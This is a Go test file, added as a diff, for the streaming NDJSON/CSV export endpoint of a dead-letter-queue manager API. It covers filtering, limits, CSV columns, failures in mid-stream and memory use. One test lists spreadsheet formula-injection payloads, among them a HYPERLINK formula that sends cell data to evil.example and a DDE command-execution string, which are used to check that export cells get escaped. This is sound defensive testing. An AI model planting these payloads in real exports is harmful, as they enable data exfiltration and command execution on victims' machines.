@@ -1,0 +1,270 @@
+package rest
+
+import (
+	"bufio"
+	"bytes"
+	"context"
+	"encoding/csv"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"io"
+	"net/http"
+	"reflect"
+	"runtime"
+	"strings"
+	"testing"
+
+	"github.com/dlq-manager/dlq-manager/pkg/entity"
+	"github.com/dlq-manager/dlq-manager/pkg/repository"
+)
+
+// An export has exactly what a search finds, as lists show it, line by line.
+func TestExport_IsTheFilter(t *testing.T) {
+	t.Parallel()
+	f := searchFixture(t)
+	for _, query := range []string{"", "?topic=orders.dlq.v1", "?origin=unknown", "?payload=$.customer.id%3D42", "?q=refused", "?status=DEAD"} {
+		listed := f.do("GET", "/api/v1/messages"+query, "").Body.String()
+		w := f.do("GET", "/api/v1/export"+query, "")
+		lines := strings.Split(strings.TrimSuffix(w.Body.String(), "\n"), "\n")
+		if w.Body.Len() == 0 {
+			lines = nil
+		}
+		want := strings.Join(lines, ",")
+		if got := listed[len(`{"messages":[`):strings.LastIndex(listed, `],"next_cursor"`)]; w.Code != 200 || got != want {
+			t.Errorf("export%s = %d\n got %s\nwant %s", query, w.Code, want, got)
+		}
+		wantHeader(t, w.Result().Trailer, exportMessages, fmt.Sprint(len(lines)))
+		wantHeader(t, w.Result().Trailer, exportComplete, "true")
+		wantHeader(t, w.Header(), "Content-Type", "application/x-ndjson")
+		wantHeader(t, w.Header(), "Content-Disposition", `attachment; filename="messages.ndjson"`)
+	}
+}
+
+// An export that ends at its limit says so.
+func TestExport_IsBounded(t *testing.T) {
+	t.Parallel()
+	f := searchFixture(t)
+	for limit, complete := range map[int]string{1: "false", 5: "false", 6: "true", 7: "true", maxExport: "true"} {
+		w := f.do("GET", fmt.Sprintf("/api/v1/export?limit=%d", limit), "")
+		want := min(limit, 6)
+		if got := strings.Count(w.Body.String(), "\n"); got != want {
+			t.Errorf("limit %d: %d lines, want %d", limit, got, want)
+		}
+		wantHeader(t, w.Result().Trailer, exportMessages, fmt.Sprint(want))
+		wantHeader(t, w.Result().Trailer, exportComplete, complete)
+	}
+	for query, field := range map[string]string{"limit=0": "limit", "limit=1000001": "limit", "format=xml": "format", "source=all": "source", "unmask=yes": "unmask"} {
+		e := wantEnvelope(t, f.do("GET", "/api/v1/export?"+query, ""), 400, codeValidation)
+		if firstField(e.Details) != field {
+			t.Errorf("%s: details %+v, want %s", query, e.Details, field)
+		}
+	}
+}
+
+// Every line of a CSV has the columns that its first line names, and they are
+// those of the JSON.
+func TestExport_CSV(t *testing.T) {
+	t.Parallel()
+	f := newFixture(fullMessage(withValue(`{"a": "x,\"y\"", "b":"修正"}`)))
+	f.options = []Option{WithStackTrace(func(entity.Message) string { return "at x\n\tat y" })}
+	f.open()
+	w := f.do("GET", "/api/v1/export?format=csv", "")
+	rows, err := csv.NewReader(w.Body).ReadAll()
+	if err != nil || len(rows) != 2 {
+		t.Fatalf("%d rows, %v, want a head and one message", len(rows), err)
+	}
+	var message map[string]any
+	line := f.do("GET", "/api/v1/export", "").Body.Bytes()
+	if err := json.Unmarshal(line, &message); err != nil {
+		t.Fatal(err)
+	}
+	decoder, names := json.NewDecoder(bytes.NewReader(line)), []string(nil)
+	if _, err := decoder.Token(); err != nil {
+		t.Fatal(err)
+	}
+	for decoder.More() {
+		name, _ := decoder.Token()
+		names = append(names, fmt.Sprint(name))
+		var skip json.RawMessage
+		if err := decoder.Decode(&skip); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if !reflect.DeepEqual(rows[0], names) {
+		t.Errorf("columns %v, want %v", rows[0], names)
+	}
+	cells := map[string]string{}
+	for i, name := range rows[0] {
+		cells[name] = rows[1][i]
+	}
+	for name, want := range map[string]string{
+		"id": idA.String(), "payload": `{"a": "x,\"y\"", "b":"修正"}`, "status": "DEAD", "created_at": "2026-02-20T10:30:00.000+00:00",
+		"dlq_partition": "2", "original_offset": "-1", "stack_trace": "at x\n\tat y", "key": "base64:/wA=", "consumer_attempts": "5",
+		"payload_omitted": "", "group_id": idB.String(), "outcome_offset": "12", "masked": "", "retry_count": "3",
+	} {
+		if cells[name] != want {
+			t.Errorf("%s = %q, want %q", name, cells[name], want)
+		}
+	}
+	wantHeader(t, w.Header(), "Content-Type", "text/csv; charset=utf-8; header=present")
+	if got := newFixture().open().do("GET", "/api/v1/export?format=csv", "").Body.String(); got != csvHead {
+		t.Errorf("an empty export = %q, want the head", got)
+	}
+}
+
+// No cell begins as a formula does, and nothing of what stood there is lost.
+func TestExport_NoFormulas(t *testing.T) {
+	t.Parallel()
+	for _, evil := range []string{
+		`=HYPERLINK("http://evil.example/?"&A1,"x")`, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "＝1", "\u200b=1", "\ufeff@x",
+		`=cmd|' /C calc'!A0`, `=1,2"3`, "\x00=1", " -1",
+	} {
+		f := newFixture(message(idA, func(m *entity.Message) {
+			m.ErrorMessage, m.Record.Key = evil, []byte(evil)
+			m.OriginalTopic, m.Failure.Class, m.Failure.ConsumerGroup, m.LastPublishError = evil, evil, evil, evil
+		})).open()
+		rows, err := csv.NewReader(f.do("GET", "/api/v1/export?format=csv", "").Body).ReadAll()
+		if err != nil || len(rows) != 2 {
+			t.Fatalf("%q: %d rows, %v", evil, len(rows), err)
+		}
+		n := 0
+		for i, cell := range rows[1] {
+			if formula(cell) {
+				t.Errorf("%q: column %s begins with a formula: %q", evil, rows[0][i], cell)
+			}
+			if cell == "'"+strings.ReplaceAll(evil, "\r\n", "\n") {
+				n++
+			}
+		}
+		if n != 6 {
+			t.Errorf("%q stands in %d cells, want 6", evil, n)
+		}
+	}
+	for _, harmless := range []string{"a=b", "1-1", "x@y", "{}", "'=1"} {
+		if formula(harmless) {
+			t.Errorf("formula(%q) = true", harmless)
+		}
+	}
+}
+
+// endless gives the same message for ever, or until its caller has enough.
+type endless struct {
+	Store
+	given  int
+	failAt int
+	err    error
+}
+
+func (e *endless) Export(ctx context.Context, _ repository.ExportQuery, yield func(*entity.Message) error) error {
+	m := kilobyte()
+	for e.given = 0; e.err == nil || e.given < e.failAt; e.given++ {
+		if err := ctx.Err(); err != nil {
+			return err
+		}
+		if err := yield(&m); err != nil {
+			return fmt.Errorf("export: %w", err)
+		}
+	}
+	return e.err
+}
+
+// A client that leaves ends the store's work.
+func TestExport_ClientThatLeavesEndsTheQuery(t *testing.T) {
+	t.Parallel()
+	f := newFixture()
+	store := &endless{Store: f.memory}
+	f.store = store
+	url, stop, served := f.open().serve(t)
+	response, err := http.Get(url + "/api/v1/export?limit=1000000")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := bufio.NewReader(response.Body).ReadString('\n'); err != nil {
+		t.Fatal(err)
+	}
+	_ = response.Body.Close()
+	stop()
+	if err := receive(t, served, "the server's end"); err != nil {
+		t.Error(err)
+	}
+	if store.given >= maxExport {
+		t.Errorf("the store gave all of %d messages to nobody", store.given)
+	}
+}
+
+// What fails in the middle does not look like an end.
+func TestExport_FailureInTheMiddleBreaksTheConnection(t *testing.T) {
+	t.Parallel()
+	f := newFixture()
+	f.store = &endless{Store: f.memory, failAt: 1000, err: errBroken}
+	url, stop, _ := f.open().serve(t)
+	defer stop()
+	response, err := http.Get(url + "/api/v1/export")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer func() { _ = response.Body.Close() }()
+	if _, err := io.Copy(io.Discard, response.Body); err == nil {
+		t.Error("the body ended well, want an error: it is not whole")
+	}
+	if got := response.Trailer.Get(exportComplete); got != "" {
+		t.Errorf("%s = %q, want none", exportComplete, got)
+	}
+}
+
+func TestExport_FailureBeforeTheFirstLineIsAnAnswer(t *testing.T) {
+	t.Parallel()
+	for err, status := range map[error]int{errBroken: 500, entity.ErrUnavailable: 503, errors.New("x"): 500} {
+		f := newFixture()
+		f.store = &endless{Store: f.memory, err: err}
+		if w := f.open().do("GET", "/api/v1/export", ""); w.Code != status || w.Header().Get("Content-Type") != "application/json" || w.Header().Get("Trailer") != "" {
+			t.Errorf("%v: %d %s %v, want %d and an envelope", err, w.Code, w.Body, w.Header(), status)
+		}
+	}
+}
+
+// discard is a client that takes everything and keeps nothing.
+type discard struct{ header http.Header }
+
+func (d discard) Header() http.Header         { return d.header }
+func (d discard) WriteHeader(int)             {}
+func (d discard) Write(b []byte) (int, error) { return len(b), nil }
+
+// Memory does not grow with the number of messages.
+func TestExport_ConstantMemory(t *testing.T) {
+	allocated := func(limit int, format string) uint64 {
+		f := newFixture()
+		f.store = &endless{Store: f.memory}
+		f.open()
+		r, _ := http.NewRequest("GET", fmt.Sprintf("/api/v1/export?limit=%d&format=%s", limit, format), nil)
+		var before, after runtime.MemStats
+		runtime.ReadMemStats(&before)
+		f.server.Handler().ServeHTTP(discard{http.Header{}}, r)
+		runtime.ReadMemStats(&after)
+		return after.TotalAlloc - before.TotalAlloc
+	}
+	for format, most := range map[string]uint64{formatNDJSON: 64, formatCSV: 8192} {
+		few, many := allocated(100, format), allocated(5000, format)
+		if each := (many - min(few, many)) / 4900; each > most {
+			t.Errorf("%s: %d bytes allocated for each message, want at most %d", format, each, most)
+		}
+	}
+}
+
+func BenchmarkExport(b *testing.B) {
+	for _, format := range []string{formatNDJSON, formatCSV} {
+		b.Run(format, func(b *testing.B) {
+			f := newFixture()
+			f.store = &endless{Store: f.memory}
+			f.open()
+			rows := 0
+			for b.Loop() {
+				r, _ := http.NewRequest("GET", "/api/v1/export?limit=10000&format="+format, nil)
+				f.server.Handler().ServeHTTP(discard{http.Header{}}, r)
+				rows += 10_000
+			}
+			b.ReportMetric(float64(rows)/b.Elapsed().Seconds(), "rows/s")
+		})
+	}
+}
